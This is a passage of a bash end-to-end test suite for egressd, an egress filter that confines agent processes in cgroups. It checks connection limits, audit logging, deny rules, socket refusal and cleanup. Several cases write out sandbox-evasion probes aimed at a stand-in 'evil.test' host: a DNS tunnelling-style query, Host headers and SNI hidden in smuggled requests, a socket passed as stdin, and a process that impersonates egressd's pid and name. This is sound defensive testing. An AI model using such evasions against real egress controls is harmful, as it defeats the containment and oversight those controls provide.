held = [c for c in conns if c[2] is None]
print("opened", len(conns), "held", len(held))
sys.stdout.flush()
open(ready, "w").write("1")
end = time.monotonic() + 12
while time.monotonic() < end and any(c[2] is None for c in held):
    time.sleep(0.5)
    now = time.monotonic()
    poll_closed(now)
    for c in held:
        if c[2] is None:
            try:
                c[0].send(b"a")
            except OSError:
                c[2] = now
done = [c[2] - c[1] for c in held if c[2] is not None]
print("closed", len(done), "of", len(held), "after %.1f..%.1f s" %
      (min(done, default=0), max(done, default=0)))
'
	in_cg "$DCG/agents/job1" "$E2E_PY" -c "$agent" "$ready" "$DNS4" >"$res" 2>&1 &
	apid=$!
	bed_wait_file "$ready" 15 || fail "job1 did not get to hold: $(oneline "$(cat "$res")")"
	# while job1 holds what it can: within the 5 s its messages have
	dig2=$(in_cg "$DCG/agents/job2" timeout 8 dig +tcp +time=2 +tries=1 allowed.test A 2>&1)
	note "job2 dig +tcp while job1 holds: $(oneline "$(grep -E 'status:|^allowed|timed out|refused|reset|error' <<<"$dig2")")"
	wait_agent "$apid" "$res"
	grep -q "status: NOERROR" <<<"$dig2" ||
		fail "job2's DNS over TCP failed while job1 held its connections: $(oneline "$dig2")"
	read -r opened held < <(sed -n 's/^opened \([0-9]*\) held \([0-9]*\)$/\1 \2/p' "$res")
	read -r closed tmin tmax < <(sed -n \
		's/^closed \([0-9]*\) of [0-9]* after \([0-9.]*\)\.\.\([0-9.]*\) s$/\1 \2 \3/p' "$res")
	[ -n "${held:-}" ] && [ -n "${closed:-}" ] || fail "job1: $(oneline "$(cat "$res")")"
	[ "$opened" -gt 256 ] || fail "job1 opened only $opened connections"
	[ "$held" -le 32 ] || fail "job1 held $held DNS-over-TCP connections (tenant cap 32)"
	[ "$closed" -eq "$held" ] ||
		fail "trickling connections kept open past the message deadline: $(oneline "$(cat "$res")")"
	"$E2E_PY" -c 'import sys; lo, hi = map(float, sys.argv[1:]); sys.exit(not (4.5 <= lo and hi <= 8))' \
		"$tmin" "$tmax" || fail "closed after $tmin..$tmax s, not about 5 s after the first byte"
	# (grep -c, not -q: under pipefail the first grep's SIGPIPE would fail it)
	[ "$(grep '"reason": *"conn_limit"' "$CASE_AUDIT" | grep -c "for this cgroup's tenant, limit 32")" -gt 0 ] ||
		fail "no conn_limit record for the refused connections"
	[ "$(grep '"reason": *"peek_timeout"' "$CASE_AUDIT" | grep -c 'message incomplete after 5000 ms')" -gt 0 ] ||
		fail "no peek_timeout record for the trickling connections"
}

# audit_find PYTHON-CONDITION-ON-o: the first matching audit record.
audit_find() {
	"$E2E_PY" -c 'import json, sys
for l in open(sys.argv[1]):
    try:
        o = json.loads(l)
    except ValueError:
        continue
    if eval(sys.argv[2]):
        print(l.strip())
        sys.exit(0)
sys.exit(1)' "$CASE_AUDIT" "$1"
}

# ssh has no SNI or Host: a rule for other.test:22 admits port 22 only to
# addresses the DNS proxy handed out for other.test to this cgroup.
case_ssh_style_rule() {
	local out rc rec
	log_mark other.test
	out=$(egr --allow other.test:22 -- "${CLIENT[@]}" ssh $OTHER4 22 \
		--resolve other.test) || fail "ssh-style to other.test: $(oneline "$out")"
	note "other.test: $(oneline "$out")"
	[ "$(jget resolved <<<"$out")" = "[\"$OTHER4\"]" ] ||
		fail "other.test resolved to $(jget resolved <<<"$out")"
	[ "$(jget banner <<<"$out")" = "SSH-2.0-bed-other.test" ] ||
		fail "banner: $(jget banner <<<"$out")"
	sleep 0.2
	log_new other.test | grep -q '"line": "SSH-2.0-client"' ||
		fail "other.test did not log the client's line: $(oneline "$(log_new other.test)")"
	if [ "$E2E_RUNNER" != direct ]; then
		rec=$(audit_find "o.get('dst') == '$OTHER4' and o.get('dst_port') == 22 and o.get('proto') == 'tcp'") ||
			fail "no audit record for $OTHER4:22"
		note "audit: $rec"
		audit_find "o.get('dst') == '$OTHER4' and o.get('dst_port') == 22 and o.get('proto') == 'tcp' and o.get('host') == 'other.test' and o.get('verdict') == 'allow'" >/dev/null ||
			fail "the audit record does not name other.test (allow): $rec"
	fi
	# Resolving the allowed name does not open port 22 everywhere.
	log_mark evil.test
	out=$(egr --allow other.test:22 -- "${TIMED[@]}" "${CLIENT[@]}" ssh \
		$EVIL4 22 --resolve other.test)
	rc=$?
	grep -q 'bed-evil' <<<"$out" && fail "evil's port 22 answered: $(oneline "$out")"
	deny_fast "ssh-style to $EVIL4:22" $rc "$out"
	evil_untouched "port 22 by IP"
	# A fresh run that never resolved other.test: nothing handed out yet.
	log_mark other.test
	out=$(egr --allow other.test:22 -- "${TIMED[@]}" "${CLIENT[@]}" ssh \
		$OTHER4 22)
	rc=$?
	deny_fast "ssh-style to $OTHER4:22 without resolving" $rc "$out"
	sleep 0.2
	[ -z "$(log_new other.test)" ] ||
		fail "other.test was contacted without a DNS answer: $(oneline "$(log_new other.test)")"
	# The memory is for protocols with no place for a name: HTTP without
	# a Host and TLS without SNI name their host further in (a shared
	# address would route them by it), so address rules decide them.
	log_mark other.test
	out=$(egr --allow other.test -- bash -c 'getent hosts other.test >/dev/null || exit 9
		"$@" raw '"$OTHER4"' 80 --send $'"'"'GET / HTTP/1.0\r\n\r\n'"'"'
		"$@" raw '"$OTHER4"' 443 --tls' bash "${CLIENT[@]}")
	note "no Host / no SNI after resolving: $(oneline "$out")"
	grep -q 'hello from other' <<<"$out" && fail "HTTP without Host went through: $(oneline "$out")"
	sleep 0.2
	[ -z "$(log_new other.test)" ] ||
		fail "other.test was reached without a name: $(oneline "$(log_new other.test)")"
	# Nor what hides its name from the first look: silence first (as if
	# the server spoke first), then TLS naming another host; blank lines
	# before a request line (servers skip them); a method the parser does
	# not know. On a shared address each would reach the host it names.
	log_mark other.test
	out=$(egr --allow other.test -- bash -c 'getent hosts other.test >/dev/null || exit 9
		"$@" raw '"$OTHER4"' 443 --wait-before 700 --tls --sni evil.test
		"$@" raw '"$OTHER4"' 80 --send $'"'"'\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'"'"'
		"$@" raw '"$OTHER4"' 80 --send $'"'"'QUERY / HTTP/1.1\r\nHost: evil.test\r\n\r\n'"'"'
		' bash "${CLIENT[@]}")
	note "hidden names after resolving: $(oneline "$out")"
	grep -q 'hello from other' <<<"$out" && fail "a hidden name went through: $(oneline "$out")"
	# A server-speaks-first port admitted by the memory: the client's
	# first words may not be a request line naming a host.
	out=$(egr --allow other.test:22 -- bash -c 'getent hosts other.test >/dev/null || exit 9
		"$@" raw '"$OTHER4"' 22 --wait-before 700 --send $'"'"'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'"'"'
		' bash "${CLIENT[@]}")
	note "request line after silence on port 22: $(oneline "$out")"
	sleep 0.2
	# (the port-22 connection is made, then reset before a byte goes on)
	if log_new other.test | grep -q 'evil\.test\|"line"\|"sni"\|"host"\|"method"'; then
		fail "other.test got what hid its name: $(oneline "$(log_new other.test)")"
	fi
}

# Socket kinds the connect/sendmsg hooks do not cover are refused at
# creation. Outside the cgroup (same user, same namespace) they work.
case_sock_create_refused() {
	local out in_ k v kinds="ping ping6 udplite udplite6 sctp mptcp raw"
	# shellcheck disable=SC2086
	out=$(outside "${CLIENT[@]}" socks $kinds) || fail "outside: $(oneline "$out")"
	note "outside, nobody: $out"
	for k in ping ping6 udplite udplite6; do
		[ "$(jget $k <<<"$out")" = ok ] || fail "outside, $k: $(jget $k <<<"$out")"
	done
	# shellcheck disable=SC2086
	in_=$(egr --allow allowed.test -- "${CLIENT[@]}" socks $kinds) ||
		fail "inside: $(oneline "$in_")"
	note "inside, nobody: $in_"
	for k in $kinds; do
		v=$(jget $k <<<"$in_")
		case $k:$(jget $k <<<"$out") in
		sctp*:EPROTONOSUPPORT | sctp*:ESOCKTNOSUPPORT | mptcp:EPROTONOSUPPORT | mptcp:ENOPROTOOPT)
			note "$k: not in this kernel, not tested" ;;
		*) [ "$v" = EPERM ] || fail "inside, $k: $v (want EPERM)" ;;
		esac
	done
	[ "$(jget udp <<<"$(egr --allow allowed.test -- "${CLIENT[@]}" socks udp)")" = ok ] ||
		fail "inside, a plain UDP socket could not be created"
	# Raw sockets need CAP_NET_RAW anyway; a root agent must not get one.
	need_egressd
	out=$(cd "$E2E_DIR" && in_host "${CLIENT[@]}" socks raw udplite) || fail "outside, root: $out"
	[ "$(jget raw <<<"$out")" = ok ] || fail "outside, root: raw: $(jget raw <<<"$out")"
	out=$(egr_raw run --allow-root-agent --allow allowed.test --log \
		"$CASE_AUDIT" --log-format json -- "${CLIENT[@]}" socks raw udplite \
		2>>"$CASE_STDERR") || fail "inside, root: $(oneline "$out")"
	note "inside, root: $out"
	for k in raw udplite; do
		[ "$(jget $k <<<"$out")" = EPERM ] || fail "inside, root, $k: $(jget $k <<<"$out")"
	done
	audit_find "o.get('reason') == 'proto'" >/dev/null ||
		note "no audit record with reason proto for the refused sockets"
}

# Every query is in the audit log: proto, name, verdict.
case_dns_audit_records() {
	need_egressd
	local l q rec
	l=$(rand_label 20)
	dig_batch --allow allowed.test -- udp "allowed.test A" \
		tcp "+tcp @$EVIL4 allowed.test A" evil "evil.test A" \
		tunnel "@8.8.8.8 TXT $l.evil.test"
	for q in "udp allowed.test allow" "tcp allowed.test allow" \
		"udp evil.test deny" "udp $l.evil.test deny"; do
		set -- $q
		rec=$(audit_find "o.get('proto') == '$1' and o.get('host') == '$2'") ||
			fail "no audit record with proto $1 host $2: $(oneline "$(grep -c . "$CASE_AUDIT") records: $(head -c 600 "$CASE_AUDIT")")"
		note "$1 $2: $rec"
		[ "$(jget verdict <<<"$rec")" = "$3" ] ||
			fail "$1 $2: verdict $(jget verdict <<<"$rec"), want $3: $rec"
	done
}

case_deny_rule_wins() {
	local out rc
	out=$(egr --allow '*.allowed.test' --allow allowed.test \
		--deny allowed.test -- "${MERGE[@]}" curl -sS --max-time 10 \
		--cacert "$E2E_CA" https://api.allowed.test/) ||
		fail "api.allowed.test (only the apex is denied) failed: $(oneline "$out")"
	[ "$out" = "hello from api.allowed.test" ] || fail "reply: $out"
	log_mark allowed.test
	out=$(egr --allow '*.allowed.test' --allow allowed.test \
		--deny allowed.test -- "${TIMED[@]}" curl -sS -f --max-time 10 \
		--cacert "$E2E_CA" https://allowed.test/)
	rc=$?
	timed_split "$out"
	[ $rc -ne 0 ] || fail "allowed.test reachable despite --deny: $BODY"
	[ "$MS" -lt $FAST_MS ] || fail "denial took $MS ms"
	sleep 0.2
	[ -z "$(log_new allowed.test)" ] || fail "allowed.test's server was contacted"
}

case_wildcard_not_apex() {
	local out rc
	out=$(egr --allow '*.allowed.test' -- "${MERGE[@]}" curl -sS \
		--max-time 10 --cacert "$E2E_CA" https://api.allowed.test/) ||
		fail "api.allowed.test failed: $(oneline "$out")"
	[ "$out" = "hello from api.allowed.test" ] || fail "reply: $out"
	log_mark allowed.test
	out=$(egr --allow '*.allowed.test' -- "${TIMED[@]}" curl -sS -f \
		--max-time 10 --cacert "$E2E_CA" https://allowed.test/)
	rc=$?
	timed_split "$out"
	[ $rc -ne 0 ] || fail "*.allowed.test admitted the apex allowed.test"
	[ "$MS" -lt $FAST_MS ] || fail "denial took $MS ms"
	sleep 0.2
	[ -z "$(log_new allowed.test)" ] || fail "allowed.test's server was contacted"
}

# egressd's standard streams are the command's. A TCP or UDP socket made
# outside the cgroup passes none of its hooks (they follow the socket's
# cgroup): as stdin the command could reconnect it to evil.test. Such a
# run is refused before anything starts; a Unix socket (a pipe's cousin)
# is fine.
case_run_refuses_socket_stdio() {
	local out
	need_egressd
	# shellcheck disable=SC2016
	out=$(ip netns exec "$NS_HOST" "$E2E_PY" -c 'import os, socket, subprocess, sys
egressd, addr = sys.argv[1], sys.argv[2]
s = socket.create_connection((addr, 80), timeout=5)
r = subprocess.run([egressd, "run", "--user", "nobody", "--allow", "allowed.test", "--", "true"],
                   stdin=s.fileno(), capture_output=True, text=True, timeout=20)
print("tcp", r.returncode, r.stderr.strip().splitlines()[-1:] )
a, b = socket.socketpair()
r = subprocess.run([egressd, "run", "--user", "nobody", "--allow", "allowed.test", "--", "true"],
                   stdin=a.fileno(), capture_output=True, text=True, timeout=20)
print("unix", r.returncode)' "$EGRESSD" "$ALLOWED4" 2>&1) || fail "the probe failed: $(oneline "$out")"
	note "$(oneline "$out")"
	grep -q "^tcp 2 .*standard input is a socket (IPv4) made outside" <<<"$out" ||
		fail "a TCP socket as stdin was not refused: $(oneline "$out")"
	grep -q "^unix 0" <<<"$out" || fail "a Unix socket as stdin was refused: $(oneline "$out")"
}

case_exit_status_passthrough() {
	local rc out
	egr --allow allowed.test -- sh -c 'exit 7'
	rc=$?
	[ $rc -eq 7 ] || fail "exit status $rc, want 7"
	egr --allow allowed.test -- true || fail "true: exit status $?"
	[ "$E2E_RUNNER" = direct ] && return 0
	# through the command's monitor (runpty.h): a death by signal, and
	# exec failures reported as the command's, not egressd's
	egr --allow allowed.test -- sh -c 'kill -TERM $$'
	rc=$?
	[ $rc -eq 143 ] || fail "killed by SIGTERM: exit status $rc, want 143"
	out=$(egr_raw run --user nobody --allow allowed.test -- /nonexistent/cmd 2>&1)
	rc=$?
	[ $rc -eq 127 ] || fail "a missing command: exit status $rc, want 127"
	grep -q 'cannot run /nonexistent/cmd: No such file' <<<"$out" ||
		fail "a missing command: $(oneline "$out")"
	printf 'true\n' >"$E2E_DIR/run/not-executable"
	chmod 644 "$E2E_DIR/run/not-executable"
	out=$(egr_raw run --user nobody --allow allowed.test -- "$E2E_DIR/run/not-executable" 2>&1)
	rc=$?
	[ $rc -eq 126 ] || fail "a command that is not executable: exit status $rc, want 126: $(oneline "$out")"
}

# egressd raises its own soft RLIMIT_NOFILE to the hard limit (a relayed
# connection holds two descriptors); the agent keeps the invoker's.
case_fd_limits() {
	need_egressd
	local out hard
	hard=$(ulimit -Hn)
	# shellcheck disable=SC2016
	# egressd is the parent of the command's monitor (runpty.h)
	out=$(ulimit -Sn 512 && egr --allow allowed.test -- sh -c \
		'e=$(awk "{print \$4}" /proc/$PPID/stat)
		echo "$(ulimit -Sn) $(awk "/open files/ {print \$4}" /proc/$e/limits)"') ||
		fail "run failed: $(oneline "$out")"
	[ "$out" = "512 $hard" ] ||
		fail "agent's and egressd's soft limits: '$out', want '512 $hard'"

	# Out of descriptors (hard limit 128 for this run): clients beyond
	# what egressd can hold are reset at once, not left in the backlog
	# until a descriptor frees up; the ones it holds stay open. One
	# worker: one descriptor table (fdbroker.h) to run out of.
	out=$(ulimit -n 128 && silent_clients --workers 1) ||
		fail "descriptor exhaustion run failed: $(oneline "$out") $(oneline "$(grep -v '^egressd' "$CASE_STDERR" | tail -5)")"
	note "hard limit 128, 1 worker, 110 silent clients: $out"
	[ "$(jget reset <<<"$out")" -gt 0 ] && [ "$(jget open <<<"$out")" -gt 0 ] &&
		[ $(($(jget reset <<<"$out") + $(jget open <<<"$out"))) -eq 110 ] ||
		fail "want some reset at once and the rest held: $out"
	grep -q "out of file descriptors" "$CASE_STDERR" ||
		fail "egressd did not say it ran out of descriptors"

	# The same limit and clients through four workers: each worker's
	# descriptor table is its own, so the limit bounds each of them, not
	# the process, and all 110 are held.
	out=$(ulimit -n 128 && silent_clients --workers 4) ||
		fail "four-worker run failed: $(oneline "$out") $(oneline "$(grep -v '^egressd' "$CASE_STDERR" | tail -5)")"
	note "hard limit 128, 4 workers, 110 silent clients: $out"
	[ "$(jget reset <<<"$out")" -eq 0 ] && [ "$(jget open <<<"$out")" -eq 110 ] ||
		fail "four workers with a table each: want all 110 held: $out"
}

# silent_clients EGR-OPTS...: 110 clients connect to allowed.test:80 through
# egressd and send nothing; prints {"reset", "open", "errors"}. A reset can
# beat connect() back to the client (on loopback the handshake completes,
# egressd accepts and resets before the client reads SO_ERROR): that counts
# as reset. Every other outcome (a connect or read error) is counted by
# name, so a failure says what happened.
silent_clients() {
	# shellcheck disable=SC2016
	egr "$@" --allow allowed.test -- "$E2E_PY" -c '
import json, select, socket, time
socks, errors, reset = [], {}, 0
def error(where, e):
    k = where + " " + type(e).__name__ + " " + str(e)
    errors[k] = errors.get(k, 0) + 1
for _ in range(110):
    try:
        socks.append(socket.create_connection(("'"$ALLOWED4"'", 80), timeout=3))
    except ConnectionResetError:
        reset += 1
    except OSError as e:
        error("connect", e)
time.sleep(1.5)
p = select.poll()
for s in socks:
    p.register(s, select.POLLIN | select.POLLERR | select.POLLHUP)
ready = {fd for fd, ev in p.poll(0)}
for s in socks:
    if s.fileno() in ready:
        try:
            reset += s.recv(1) == b""
        except ConnectionResetError:
            reset += 1
        except OSError as e:
            error("recv", e)
print(json.dumps({"reset": reset, "open": len(socks) - len(ready),
                  "errors": errors}))'
}

case_refuses_root_agent() {
	need_egressd
	local out rc errf=$E2E_DIR/cases/refuses_root_agent.err
	out=$(egr_raw run --allow allowed.test -- id -u 2>"$errf")
	rc=$?
	[ $rc -eq 2 ] || fail "exit status $rc, want 2 (stdout: $(oneline "$out"))"
	[ -z "$out" ] || fail "the command ran: $(oneline "$out")"
	[ -s "$errf" ] || fail "no explanation on stderr"
	note "stderr: $(oneline "$(cat "$errf")")"
	out=$(egr_raw run --allow-root-agent --allow allowed.test -- id -u \
		2>>"$CASE_STDERR") || fail "--allow-root-agent: exit $?"
	[ "$out" = 0 ] || fail "--allow-root-agent ran as uid '$out'"
}

# The systemd units of deploy/systemd (docs/systemd.md), checked the way
# systemd itself reads them, without a running systemd (PID 1 here is not):
# every directive known, every command executable (pointed at this build),
# and the daemon's sandboxing at systemd's "OK" exposure level or better.
case_systemd_units() {
	local d=$E2E_DIR/units u out score
	command -v systemd-analyze >/dev/null || fail "systemd-analyze is missing (make deps)"
	mkdir -p "$d"
	for u in "$E2E_REPO"/deploy/systemd/*; do
		sed "s|/usr/local/bin/|$E2E_REPO/|g" "$u" >"$d/${u##*/}"
	done
	for u in egressd.service agents.slice agent@.service; do
		out=$(cd "$d" && SYSTEMD_LOG_COLOR=0 systemd-analyze verify --man=no "./$u" 2>&1) ||
			fail "$u: systemd-analyze verify failed: $(oneline "$out")"
		[ -z "$out" ] || fail "$u: $(oneline "$out")"
	done
	# together: no ordering cycle, and the order the docs promise (the
	# slice's cgroup made before egressd attaches to it; egressd ready,
	# i.e. attached, before any unit in the slice starts). No systemd
	# runs here, so the order is read from the files; sd_notify is
	# daemon_sd_notify's.
	out=$(cd "$d" && cp agent@.service agent@t.service &&
		SYSTEMD_LOG_COLOR=0 systemd-analyze verify --man=no ./egressd.service \
			./agents.slice ./agent@t.service 2>&1) ||
		fail "the units together: $(oneline "$out")"
	[ -z "$out" ] || fail "the units together: $(oneline "$out")"
	grep -qx 'Before=agents.slice' "$d/egressd.service" &&
		grep -qx 'ExecStartPre=+/bin/mkdir -p /sys/fs/cgroup/agents.slice' "$d/egressd.service" &&
		grep -qx 'Type=notify' "$d/egressd.service" &&
		grep -qx 'After=egressd.service' "$d/agents.slice" &&
		grep -qx 'After=egressd.service' "$d/agent@.service" ||
		fail "unit ordering: egressd (Type=notify, making the slice's cgroup) before agents.slice and the agents"
	# the agent's pin check runs as root ("+"): /sys/fs/bpf is 0700
	grep -q '^ExecStartPre=+/bin/sh -c .test -d /sys/fs/bpf/egressd/links' "$d/agent@.service" ||
		fail "agent@.service: the pin check does not run with full privileges"
	# the agent runs scoped (egressd scope; case scope_separates_agents)
	grep -q "^ExecStart=$E2E_REPO/egressd scope -- " "$d/agent@.service" ||
		fail "agent@.service: the agent does not run under egressd scope"
	out=$(cd "$d" && systemd-analyze security --offline=yes --no-pager ./egressd.service 2>&1)
	score=$(sed -n 's/.*Overall exposure level for egressd.service: \([0-9.]*\).*/\1/p' <<<"$out")
	[ -n "$score" ] || fail "no exposure level: $(oneline "$(tail -3 <<<"$out")")"
	note "egressd.service exposure level $score (systemd-analyze security --offline)"
	awk -v s="$score" 'BEGIN { exit !(s <= 5.0) }' ||
		fail "egressd.service exposure level $score is above 5.0"
}

case_bad_policy_error() {
	need_egressd
	local f=$E2E_DIR/run/typo-policy.json errf=$E2E_DIR/cases/bad_policy.err
	local before after rc
	before=$(cg_list_egressd)
	printf '{\n  "name": "typo",\n  "allow": [\n    "allowed.test",,\n    "api.allowed.test"\n  ]\n}\n' >"$f"
	egr_raw run --user nobody --policy "$f" -- true 2>"$errf" >/dev/null
	rc=$?
	[ $rc -eq 2 ] || fail "syntax typo: exit status $rc, want 2"
	[ "$(grep -c . "$errf")" -eq 1 ] ||
		fail "syntax typo: want one line, got: $(oneline "$(cat "$errf")")"
	grep -q "typo-policy.json:4\b" "$errf" ||
		fail "syntax typo: does not name typo-policy.json:4: $(cat "$errf")"
	note "syntax: $(cat "$errf")"
	# A misspelled key must not be ignored: "dney" would silently drop
	# every deny rule.
	printf '{\n  "name": "typo",\n  "allow": ["allowed.test"],\n  "dney": ["evil.test"]\n}\n' >"$f"
	egr_raw run --user nobody --policy "$f" -- true 2>"$errf" >/dev/null
	rc=$?
	[ $rc -eq 2 ] || fail "unknown key: exit status $rc, want 2"
	[ "$(grep -c . "$errf")" -eq 1 ] ||
		fail "unknown key: want one line, got: $(oneline "$(cat "$errf")")"
	grep -q "typo-policy.json:[0-9]" "$errf" ||
		fail "unknown key: does not name file:line: $(cat "$errf")"
	note "unknown key: $(cat "$errf")"
	after=$(cg_list_egressd)
	[ "$before" = "$after" ] || fail "cgroup left behind: $(comm -13 \
		<(echo "$before") <(echo "$after") | tr '\n' ' ')"
}

# SIGKILL egressd while its command runs: the command must lose the network
# (fail closed), and the next run must remove the leftover cgroup.
case_cleanup_after_kill() {
	need_egressd
	local outf=$E2E_DIR/run/loop.out pidf=$E2E_DIR/run/loop.pid
	local epid lpid cg i after
	: >"$outf"
	chmod 666 "$outf"
	(cd "$E2E_DIR" && exec ip netns exec "$NS_HOST" "$EGRESSD" run \
		--user nobody --allow allowed.test --log "$CASE_AUDIT" \
		--log-format json -- env -i PATH=/usr/bin:/bin "${CLIENT[@]}" loop \
		$ALLOWED4 80 "$outf" "$pidf" --timeout 60 \
		</dev/null >/dev/null 2>>"$CASE_STDERR") &
	epid=$!
	bed_track $epid
	bed_wait_file "$pidf" 15 || fail "the command did not start"
	lpid=$(cat "$pidf")
	bed_track "$lpid"
	for ((i = 0; i < 100; i++)); do
		grep -q ' ok$' "$outf" && break
		sleep 0.1
	done
	grep -q ' ok$' "$outf" || fail "no connection worked before the kill: $(tail -n 2 "$outf" | tr '\n' ' ')"
	cg=$(awk -F: '$1 == "0" { print $3 }' "/proc/$lpid/cgroup")
	echo "$cg" >>"$E2E_DIR/leftover_cgroups"
	kill -KILL "$epid"
	wait "$epid" 2>/dev/null
	sleep 1
	after=$(date +%s.%N)
	sleep 2
	if kill -0 "$lpid" 2>/dev/null; then
		awk -v t="$after" '$1 > t' "$outf" >"$outf.after"
		[ "$(grep -c . "$outf.after")" -ge 3 ] ||
			fail "the command stopped probing after the kill"
		grep -q ' ok$' "$outf.after" &&
			fail "network still worked after egressd died (fail open): $(grep -c ' ok$' "$outf.after") ok"
		note "after kill: $(sort -u -k2 "$outf.after" | cut -d' ' -f2- | tr '\n' ',')"
	else
		note "the command died with egressd"
	fi
	# shellcheck disable=SC2016
	cg_run "test -d \"\$CG$cg\"" ||
		note "cgroup $cg already gone before the next run"
	# What an --intercept run killed like this leaves: its directory
	# with the run's CA key, named after its (dead) pid.
	local dead stale
	sh -c 'exit 0' &
	dead=$!
	wait "$dead"
	stale=/run/egressd/run.$dead.e2etest
	mkdir -p "$stale" && echo key >"$stale/ca.key"
	egr --allow allowed.test -- true || fail "the next run failed: exit $?"
	[ -e "$stale" ] && { rm -rf "$stale"; fail "the next run left $stale (a dead run's CA directory)"; }
	for ((i = 0; i < 30; i++)); do
		kill -0 "$lpid" 2>/dev/null || break
		sleep 0.1
	done
	kill -0 "$lpid" 2>/dev/null && fail "the next run left the old command running"
	cg_run "test -d \"\$CG$cg\"" && fail "the next run left cgroup $cg"

	# A run started from another cgroup (another login, a systemd unit)
	# makes its cgroup below that one; egressd cleanup, run from here,
	# finds it there too.
	local ocg=/egressd-e2e-cleanup-$$ gof=$E2E_DIR/run/cleanup.go wpid out
	# expanded now: $ocg is local, gone when the EXIT trap runs
	trap "cg_kill_remove $ocg" EXIT
	cg_run "mkdir -p \"\$CG$ocg\"" || fail "cannot create $ocg"
	rm -f "$gof"
	(exec sh -c 'while [ ! -e "$1" ]; do sleep 0.05; done
		exec ip netns exec "$2" "$3" run --user nobody --allow allowed.test -- sleep 60' \
		sh "$gof" "$NS_HOST" "$EGRESSD" </dev/null >/dev/null 2>>"$CASE_STDERR") &
	wpid=$!
	bed_track $wpid
	cg_run "echo $wpid >\"\$CG$ocg/cgroup.procs\"" || fail "cannot move $wpid into $ocg"
	touch "$gof"
	for ((i = 0; i < 100; i++)); do
		cg_run "test -n \"\$(cat \"\$CG$ocg/egressd.run.$wpid/cgroup.procs\" 2>/dev/null)\"" && break
		sleep 0.1
	done
	cg_run "test -d \"\$CG$ocg/egressd.run.$wpid\"" || fail "the run did not make $ocg/egressd.run.$wpid"
	kill -KILL "$wpid"
	wait "$wpid" 2>/dev/null # reaped: a zombie keeps $ocg busy
	out=$(ip netns exec "$NS_HOST" "$EGRESSD" cleanup 2>&1) || fail "egressd cleanup: $(oneline "$out")"
	note "cleanup: $(oneline "$out")"
	cg_run "test -d \"\$CG$ocg/egressd.run.$wpid\"" &&
		fail "egressd cleanup left $ocg/egressd.run.$wpid: $(oneline "$out")"
	grep -q "^removed [1-9][0-9]* leftover" <<<"$out" || fail "cleanup output: $(oneline "$out")"
	return 0
}

# PID reuse: egressd is SIGKILLed, a process of its command takes egressd's
# pid and names itself "egressd" (comm and argv[0]). Whatever it is, the run
# is gone: the next run and `egressd cleanup` must kill what is left in its
# cgroup and remove it. On the build before, a live "egressd" under the pid
# in the cgroup's name kept it, and the command, through every cleanup.
# (Had the monitor or the command inherited the lock's descriptor, the lock
# would outlive egressd and this would fail too.)
# Each round runs in namespaces of its own, so that the test can hand the
# dead pid to the command (ns_last_pid) and nothing outside is touched: a
# pid namespace, a cgroup namespace rooted at a cgroup of the test's (what
# egressd cleans up is that tree only), loopback only.
case_cleanup_pid_reuse() {
	need_egressd
	local pcg=/egressd-e2e-pidreuse-$$ dir=$E2E_DIR/run/pidreuse mnt how wpid rc out
	mnt=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)
	[ -n "$mnt" ] || skip "no cgroup2 mount visible"
	trap "cg_kill_remove $pcg" EXIT
	cg_run "mkdir -p \"\$CG$pcg\"" || fail "cannot make $pcg"
	mkdir -p "$dir"
	chmod 777 "$dir"
	# the command: waits, then forks once; the child names itself
	# egressd and stays
	cat >"$dir/agent.py" <<'PY'
import ctypes, os, sys, time
d = sys.argv[1]
libc = ctypes.CDLL(None)
with open(d + "/ready.tmp", "w") as f:
    f.write(str(os.getpid()))
os.rename(d + "/ready.tmp", d + "/ready")
while not os.path.exists(d + "/fork"):
    time.sleep(0.02)
if os.fork() == 0:
    libc.prctl(15, b"egressd", 0, 0, 0)  # PR_SET_NAME
    with open(d + "/child.tmp", "w") as f:
        f.write(str(os.getpid()))
    os.rename(d + "/child.tmp", d + "/child")
time.sleep(60)
PY
	# the round, as root inside the namespaces: $1 egressd, $2 the
	# cgroup2 mount, $3 dir, $4 python, $5 run|cleanup
	cat >"$dir/round.sh" <<'SH'
umount -l "$2" && mount -t cgroup2 cgroup2 "$2" || { echo "cannot mount cgroup2"; exit 99; }
rm -f "$3/ready" "$3/fork" "$3/child"
"$1" run --user nobody --allow allowed.test -- "$4" "$3/agent.py" "$3" \
	</dev/null >/dev/null 2>>"$3/egressd.err" &
epid=$!
i=0
while [ ! -s "$3/ready" ]; do
	i=$((i + 1)); [ $i -lt 300 ] || { echo "the command did not start"; exit 98; }
	sleep 0.05
done
kill -KILL $epid
wait $epid
# no fork here until the command's: its child gets egressd's pid (a busy
# wait on builtins, no sleep)
echo $((epid - 1)) >/proc/sys/kernel/ns_last_pid
: >"$3/fork"
i=0
while [ ! -s "$3/child" ]; do
	i=$((i + 1)); [ $i -lt 3000000 ] || { echo "the command did not fork"; exit 98; }
done
child=$(cat "$3/child")
[ "$child" = "$epid" ] || { echo "pid not reused: egressd $epid, child $child"; exit 97; }
echo "egressd $epid killed; pid $epid now: $(cat /proc/$child/comm), $(grep ^0:: /proc/$child/cgroup)"
if [ "$5" = run ]; then
	"$1" run --user nobody --allow allowed.test -- true </dev/null >/dev/null 2>>"$3/egressd.err" ||
		echo "the next run failed: $?"
else
	"$1" cleanup 2>&1 || echo "cleanup failed: $?"
fi
for i in $(seq 30); do kill -0 "$child" 2>/dev/null || break; sleep 0.1; done
kill -0 "$child" 2>/dev/null && echo "SURVIVED: pid $child ($(cat /proc/$child/comm)) still runs"
[ -d "$2/egressd.run.$epid" ] && echo "LEFT: cgroup egressd.run.$epid"
exit 0
SH
	for how in run cleanup; do
		rm -f "$dir/go"
		(exec sh -c 'while [ ! -e "$1/go" ]; do sleep 0.05; done
			exec unshare --net --pid --fork --mount-proc --cgroup --propagation private \
				sh "$1/round.sh" "$2" "$3" "$1" "$4" "$5"' \
			sh "$dir" "$EGRESSD" "$mnt" "$E2E_PY" "$how" </dev/null >"$dir/out.$how" 2>&1) &
		wpid=$!
		bed_track $wpid
		cg_run "echo $wpid >\"\$CG$pcg/cgroup.procs\"" || fail "cannot move $wpid into $pcg"
		touch "$dir/go"
		wait $wpid
		rc=$?
		out=$(cat "$dir/out.$how")
		note "$how: $(oneline "$out")"
		[ $rc -eq 97 ] && skip "$how: $(oneline "$out")"
		[ $rc -eq 0 ] || fail "$how: round failed ($rc): $(oneline "$out") $(oneline "$(tail -3 "$dir/egressd.err")")"
		grep -q "now: egressd," <<<"$out" || fail "$how: the command's child is not named egressd: $(oneline "$out")"
